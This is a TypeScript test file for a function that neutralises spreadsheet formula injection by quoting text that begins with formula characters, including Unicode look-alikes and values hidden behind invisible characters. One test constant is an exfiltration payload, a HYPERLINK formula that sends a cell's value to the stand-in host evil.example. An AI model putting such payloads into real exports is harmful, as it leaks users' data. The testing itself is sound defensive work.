import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, startsLikeFormula } from './spreadsheet-formulas.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';

describe('neutraliseFormula', () => {
  it('puts a single quote before text starting with =, +, - or @, or with a tab or carriage return', () => {
    for (const text of [HYPERLINK, '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\r=1+1', '\t'])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('sees the small form variants, full-width and other compatibility forms as the characters they stand for', () => {
    for (const text of [
      '\uFE62cmd',
      '\uFE63cmd',
      '\uFE661+1',
      '\uFE6BSUM(A1)',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '⁼1',
    ])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('looks past blanks and invisible characters before the first one', () => {
    for (const text of [
      `  ${HYPERLINK}`,
      `\u00A0${HYPERLINK}`,
      ' \t=1+1',
      '\n@SUM(A1)',
      '\u2003\u3000+1',
      '\u200B=1+1',
      '\u200F\uFEFF-1',
      '  \uFE66 1+1',
      '\u00A0＝1',
    ])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves other text exactly as it was: accents, emoji, other scripts, a formula character further on', () => {
    for (const text of [
      '',
      '   ',
      'Zoë Ångström',
      'Crème brûlée',
      '💇‍♀️ Salon',
      'ｆｕｌｌ width',
      'サロン',
      '1+1=2',
      'a-b@c.example',
      "'=Already quoted",
      '\u2212 minus sign',
      'e\u0301 combining',
    ])
      expect(neutraliseFormula(text)).toBe(text);
  });

  it('writes the text itself or the text after one quote, and never text that starts like a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const written = neutraliseFormula(text);
        expect([text, `'${text}`]).toContain(written);
        expect(startsLikeFormula(written)).toBe(false);
      }),
    );
  });
});
